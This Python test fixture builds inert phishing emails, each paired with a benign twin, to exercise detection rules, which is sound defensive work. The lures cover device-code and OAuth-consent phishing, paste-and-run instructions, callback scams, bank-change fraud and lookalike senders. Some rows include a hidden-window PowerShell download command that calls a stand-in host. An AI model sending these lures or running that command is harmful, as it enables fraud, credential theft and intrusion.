# SPDX-License-Identifier: Apache-2.0
"""Inert mails for the rules of lures that use genuine pages and services: rows as in rule_mails.py."""
from mails import archive, mail
import images, pdfs

NOTE = 'Please read the note.'
GMAIL = 'Petra Lind <petra.lind@gmail.com>'
CALL = 'Your card was charged $399 for the renewal of your subscription. If you did not authorize this, call %s to cancel.'
PHONE, DESK = '+1 (888) 555-0142', 'the desk'


def anchor(url, text):
    return '<html><body><p>Please see</p><p><a href="%s">%s</a></p></body></html>' % (url, text)


def document(text):
    return pdfs.pdf(pdfs.page(content=b'BT /F1 12 Tf 72 700 Td (' + text.replace('(', '\\(').replace(')', '\\)').encode() + b') Tj ET'))


def event(text):
    return ('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//garden//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@flowers.test\r\n'
            'DTSTAMP:20210315T080000Z\r\nDTSTART:20210320T080000Z\r\nSUMMARY:Order\r\nDESCRIPTION:%s\r\nEND:VEVENT\r\n'
            'END:VCALENDAR\r\n' % text.replace(',', '\\,')).encode()


def genuine_pages():
    code = 'To join, open https://microsoft.com/devicelogin and enter the code %s.'
    yield 'device-code-asked', mail('Call', code % 'C8JQ2KWPL'), mail('Call', code % 'of your own device')
    yield 'link-device-login', mail('Call', 'Open https://microsoft.com/devicelogin'), mail('Call', 'Open https://microsoft.com/about')
    ask = 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&redirect_uri=https%%3A%%2F%%2F%s%%2Fcb&scope=%s'
    broad, narrow = 'offline_access%20Mail.ReadWrite', 'openid%20profile'
    away, home = ask % ('roses.test', broad), ask % ('www.flowers.test', narrow)
    yield 'oauth-consent-foreign', mail('Note', NOTE, html=anchor(away, 'note')), mail('Note', NOTE, html=anchor(home, 'note'))
    yield 'oauth-broad-scope', mail('Note', NOTE, html=anchor(away, 'note')), mail('Note', NOTE, html=anchor(home, 'note'))
    shown = 'https://www.paypal.com/signin'
    yield 'link-text-brand', mail('Note', NOTE, html=anchor('https://roses.test/a', shown)), \
        mail('Note', NOTE, html=anchor('https://www.paypal.com/home', shown))
    form = 'Dear staff, give your account number and password before Monday: https://docs.google.com/forms/d/e/1/viewform'
    yield 'self-made-page-asks', mail('Note', form), mail('Note', form.replace('account number and password', 'choice of tulips'))
    yield 'link-file-host-archive', mail('Copyright notice', 'The evidence: https://www.mediafire.com/file/1/Evidence.zip/file'), \
        mail('Garden', 'The tulips: https://www.mediafire.com/file/1/Tulips.zip/file')
    tool = 'The tool: https://roses.test/tulip.%s'
    yield 'link-program', mail('Note', tool % 'exe'), mail('Note', tool % 'pdf')
    earn = 'Part time job: work from home, join us at %s'
    yield 'link-messenger-invite', mail('Job', earn % 'https://chat.whatsapp.com/a'), mail('Job', earn % 'https://roses.test/a')


def commands():
    steps = 'To repair your mailbox press %s, then Ctrl+V and Enter.'
    yield 'paste-and-run', mail('Note', steps % 'Windows + R'), mail('Note', steps % 'Shift')
    command = 'powershell -w h -c "%s https://roses.test/a"'
    yield 'command-in-text', mail('Note', command % 'iwr'), mail('Note', command % 'Get-Help').replace(b'https://', b'')
    def attached(key):
        return [('join.html', b'<html><body><p>Verify you are human</p><ol><li>Press <b>' + key +
                 b'</b></li><li>Press <b>Ctrl + V</b></li><li>Press Enter</li></ol></body></html>')]
    yield 'page-paste-and-run', mail('Note', NOTE, attached(b'Windows Key + R')), mail('Note', NOTE, attached(b'Shift'))


def talks():
    ask = 'Please create a new %s group for a confidential task and send me its QR code.'
    yield 'ask-messenger', mail('Task', ask % 'WhatsApp', sender=GMAIL), mail('Task', ask % 'garden', sender=GMAIL)
    said = 'PayPal sent you a money request. Note from Lake: ' + CALL
    service = 'PayPal <service@paypal.com>'
    yield 'service-note-callback', mail('Request', said % PHONE, sender=service), mail('Request', said % DESK, sender=service)
    yield 'calendar-callback', mail('Note', NOTE, [('a.ics', event(CALL % PHONE))]), mail('Note', NOTE, [('a.ics', event(CALL % DESK))])
    yield 'document-callback', mail('Note', NOTE, [('a.pdf', document(CALL % PHONE))]), mail('Note', NOTE, [('a.pdf', document(CALL % DESK))])
    comment = 'Lake mentioned you in a comment: https://%s/a'
    docs = 'Lake (Google Docs) <comments-noreply@docs.google.com>'
    yield 'service-note-free-host', mail('Note', comment % 'tulip.web.app', sender=docs), mail('Note', comment % 'docs.google.com', sender=docs)
    paid = 'Rate tulips and earn $150-$400/day. %s'
    yield 'pay-per-day-messenger', mail('Job', paid % 'Write on Telegram.'), mail('Job', paid % 'Write to the desk.')
    held = 'Your account is used for a crime and an arrest warrant is out. Answer by %s.'
    yield 'authority-messenger', mail('Note', held % 'video call', sender='Metropolitan Police <a@flowers.test>'), \
        mail('Note', held % 'letter', sender='Metropolitan Police <a@flowers.test>')
    bank = 'We changed banks. Our new bank account is below, process the payment to the new account today.'
    yield 'fake-thread-money', mail('Re: invoice', bank), mail('Re: invoice', bank, headers=['References: <1@recipient.test>'])
    yield 'link-text-other-file', mail('Note', NOTE, html=anchor('https://roses.test/a.msi', 'tulips.pdf')), \
        mail('Note', NOTE, html=anchor('https://roses.test/a.pdf', 'tulips.pdf'))
    leads = 'Sign in with your work account to see the bonus: https://%s/a'
    yield 'calendar-asks-sign-in', mail('Note', NOTE, [('a.ics', event(leads % 'roses.test'))]), mail('Note', NOTE, [('a.ics', event(leads % 'meet.google.com'))])
    leads = 'Choose your day: https://%s/a'
    yield 'calendar-free-host', mail('Note', NOTE, [('a.ics', event(leads % 'tulips.pages.dev'))]), mail('Note', NOTE, [('a.ics', event(leads % 'roses.test'))])
    called = 'CONVOCATION of the %s. Answer by email within 72 hours.'
    yield 'document-summons', mail('Note', NOTE, [('a.pdf', document(called % 'police'))], sender=GMAIL), mail('Note', NOTE, [('a.pdf', document(called % 'choir'))], sender=GMAIL)
    phone = 'Install the result of your check: https://roses.test/tulip.%s'
    yield 'link-phone-program', mail('Note', phone % 'apk'), mail('Note', phone % 'pdf')
    wants = 'Lake shared a file with you. Log in with your %s to view it.'
    box = 'Dropbox <no-reply@dropbox.com>'
    yield 'service-note-credentials', mail('File', wants % 'Office 365 email', sender=box), mail('File', wants % 'usual name', sender=box)
    from_whom = 'Lake (lake@%s) invited you to view a file.'
    yield 'service-note-poses', mail('File', from_whom % 'tulip-verify.test', sender=box), mail('File', from_whom % 'tulip-garden.test', sender=box)
    money = 'Our bank account is under %s and cannot receive the transfer. Pay to the new account.'
    yield 'bank-excuse', mail('Invoice', money % 'annual audit'), mail('Invoice', 'The bank account on the invoice is unchanged. Please pay by transfer.')
    opens = 'View invitation: https://roses.test/card. Open it on a %s.'
    yield 'open-on-pc', mail('Invitation', opens % 'computer'), mail('Invitation', opens % 'sunny day')
    alone = 'I have a lonely heart and look for a serious relationship.'
    wanted = 'View the document: https://roses.test/a. Log in with your %s.'
    yield 'document-wants-mail-login', mail('Document', wanted % 'work e-mail'), mail('Document', wanted % 'member number')
    estate = 'I have a terminal illness and wish to donate %s euro.'
    yield 'millions-from-stranger', mail('Note', estate % '3.200.000'), mail('Note', estate % '32')
    kit = 'The media kit: https://roses.test/%s'
    yield 'link-archive-password', mail('Offer', kit % 'kit.zip password: rose26'), mail('Offer', kit % 'kit.zip without one')
    yield 'romance-opening', mail('Hello', alone), mail('Hello', 'I look for a serious gardener.')
    notice = 'Google <no-reply@accounts.google.com>'
    yield 'account-notice-made-page', mail('Notice', 'https://sites.google.com/u/1/d/2/edit', sender=notice), \
        mail('Notice', 'https://myaccount.google.com/notifications', sender=notice)
    yield 'wallet-phrase-asked', mail('Wallet', 'Verify your recovery phrase: https://roses.test/a'), \
        mail('Wallet', 'We never ask for your recovery phrase, verify nothing: https://roses.test/a')


def attachments():
    leads = b'<svg xmlns="http://www.w3.org/2000/svg"><a %s="https://roses.test/a"><text>Play</text></a></svg>'
    yield 'svg-link', mail('Note', NOTE, [('a.svg', leads % b'href')]), mail('Note', NOTE, [('a.svg', leads % b'class')])
    page = b'<html><body><p>%s</p></body></html>'
    yield 'page-names-recipient', mail('Note', NOTE, [('a.html', page % b'hanako@recipient.test')]), \
        mail('Note', NOTE, [('a.html', page % b'desk@recipient.test')])


    def asks(text):
        page = pdfs.page(pdfs.LINK, b'BT /F1 12 Tf 72 700 Td (' + text.encode() + b') Tj ET')
        return mail('Note', NOTE, [('a.pdf', pdfs.pdf(page))])
    yield 'document-asks-account', asks('Your account is suspended. Verify your account within 24 hours.'), asks('The tulips are in flower.')
    yield 'attachment-text-command', mail('Note', NOTE, [('a.txt', b'powershell -w h -c "iwr https://roses.test/a"')]), \
        mail('Note', NOTE, [('a.txt', b'powershell is a shell')])

    def code(url, text='Please scan the QR code.'):
        return mail('Note', text, [('a.png', images.png(images.gray(images.qr(url))))])
    yield 'qr-asked', code('https://roses.test/a'), code('https://flowers.test/a')
    yield 'qr-carries-recipient', code('https://roses.test/?e=hanako@recipient.test'), code('https://roses.test/?e=desk@recipient.test')


def senders():
    def s(sender, text=NOTE + ' https://flowers.test/a', **more):
        return mail('Note', text, sender=sender, **more)
    login = 'See your account: https://%s/a'
    yield 'brand-talk-from-nowhere', s('PayPal Service <a@flowers.test>', login % 'flowers.test'), s('PayPal Service <a@flowers.test>', login % 'www.paypal.com')
    staff = 'All staff must sign the new handbook: https://flowers.test/a'
    yield 'sender-claims-inside', s('Human Resources <a@flowers.test>', staff), s('Human Resources <a@recipient.test>', staff)
    yield 'sender-authority-foreign', s('国税庁 <a@flowers.test>'), s('国税庁 <a@nta.go.jp>')
    yield 'sender-domain-near-recipient', s('Lake <a@recipientt.test>'), s('Lake <a@roses.test>')
    wire = 'Please process the payment today by wire transfer. I am in a meeting, email only.'
    yield 'sender-domain-recipient-elsewhere', s('Lake <a@recipient.example>', wire), s('Lake <a@roses.test>', wire)
    verify = 'Verify your account within 24 hours: https://roses.test/a'
    yield 'sender-name-below-stranger', s('Lakeside Garden <a@lakeside.roses.test>', verify), s('Lakeside Garden <a@lakeside.flowers.test>'.replace('flowers', 'lakeside-garden'), verify)
    yield 'link-imitates-suffix', mail('Note', 'See https://flowers.com-roses.test/a'), mail('Note', 'See https://flowers.garden-roses.test/a')
    yield 'sender-domain-carries-recipient', s('Lake <a@recipient-desk.test>'), s('Lake <a@garden-desk.test>')
    yield 'sender-domain-service-words', s('Lake <a@lake-verify.test>'), s('Lake <a@lake-garden.test>')
    yield 'link-domain-service-words', mail('Note', 'See https://lake-verify.test/a'), mail('Note', 'See https://lake-garden.test/a')
    yield 'demand-with-threat', mail('Note', 'Confirm the address or the parcel is returned: https://flowers.test/a'), \
        mail('Note', 'Confirm the address of the garden: https://flowers.test/a')
    press = 'Your account is suspended. Verify your account within 24 hours: https://%s/a'
    yield 'own-page-asks', s('Lake <a@rose-desk.test>', press % 'rose-desk.test'), s('Lake <a@rose-desk.test>', press % 'tulips.test')
    pays = 'Pay the fee or the parcel is returned: https://rose-desk.test/a'
    yield 'own-page-demands', s('Lake <a@rose-desk.test>', pays), s('Lake <a@rose-desk.test>', pays + ' Call us at +1 (202) 555-0134')
    yield 'suffix-rented', s('Lake <a@lake.eu.com>'), s('Lake <a@lake.eu>')
    docs = 'Lake (via Google Slides) <drive-shares-noreply@google.com>'
    yield 'service-note-stranger', s(docs, headers=['Reply-To: lake@tulip.top']), s(docs, headers=['Reply-To: lake@flowers.test'])
    been = 'X-BeenThere: %s@roses.test'
    yield 'list-name-random', s('Lake <a@flowers.test>', headers=[been % 'hgdfkjqwxzvbnmtrp']), s('Lake <a@flowers.test>', headers=[been % 'garden-and-tulips'])
    to = ['Reply-To: lake@%s']
    yield 'reply-to-lookalike', s('Lake <lake@flowers.test>', headers=[to[0] % 'flovvers.test']), s('Lake <lake@flowers.test>', headers=[to[0] % 'roses.test'])


def structure():
    yield 'link-cms-inside', mail('Note', NOTE + ' https://roses.test/wp-includes/css/a/'), mail('Note', NOTE + ' https://roses.test/wp-includes/css/a.png')
    yield 'attachment-program-named-document', mail('Note', NOTE, [('invoice.zip', archive(('invoice_2219.js', b'var a;')))]), \
        mail('Note', NOTE, [('invoice.zip', archive(('invoice_2219.txt', b'var a;')))])
    talk = ['In-Reply-To: <1@lakegarden.test>', 'References: <1@lakegarden.test>']
    bank = 'Please pay to our new account. I send the updated bank details.'
    yield 'thread-sender-moved', mail('Re: invoice', bank, sender='Lakegarden <lakegarden@gmail.com>', headers=talk), \
        mail('Re: invoice', bank, sender='Lakegarden <lakegarden@gmail.com>', headers=[h.replace('lakegarden', 'tulipfields') for h in talk])
    shared = '<table><tr><td>Petra Lind shared a secured document with you. <a href="https://%s/a">Open</a></td></tr></table>'
    yield 'share-notice-stranger', mail('Note', '', html=shared % 'roses.test'), mail('Note', '', html=shared % 'flowers.test')
    review = 'Please review the document: https://%s/a\n\n> the document?'
    yield 'reply-shortener-document', mail('Re: offer', review % 'bit.ly', headers=talk), mail('Re: offer', review % 'roses.test', headers=talk)
    charge = 'Your account has been debited 99 USD. Call us at %s'
    yield 'callback-freemail', mail('Note', charge % '+1 (202) 555-0134', sender='Lake <lake@gmail.com>'), mail('Note', charge % '+1 (202) 555-0134')
    pays = 'Please send the %s to me.'
    yield 'insider-lookalike-money', mail('Note', pays % 'invoice', sender='Lake <a@recipientt.test>'), mail('Note', pays % 'tulips', sender='Lake <a@recipientt.test>')
    salary = 'Please pay my %s to my new bank account.'
    yield 'lure-payroll', mail('Note', salary % 'salary'), mail('Note', salary % 'rent')
    full = 'Your mailbox is full: https://%s/a'
    yield 'self-made-page-service', mail('Note', full % 'tulips.weebly.com', sender='Helpdesk <petra@flowers.test>'), mail('Note', full % 'tulips.weebly.com', sender='Flowers <petra@flowers.test>')
    signed = ['Authentication-Results: mx.recipient.test; dmarc=pass header.from=recipient.test', 'Received: from out.recipient.test by mx.recipient.test; Mon, 15 Mar 2021 17:08:57 +0000']
    handed = 'Is this real?\n\n%s: Lake <lake@roses.test>\nSubject: tulips'
    yield 'trust-colleague-forwards', mail('FW: tulips', handed % 'From', sender='Petra <petra@recipient.test>', headers=signed), \
        mail('FW: tulips', handed % 'Form', sender='Petra <petra@recipient.test>', headers=signed)


def all_rows():
    for group in (genuine_pages, commands, talks, attachments, senders, structure):
        yield from group()
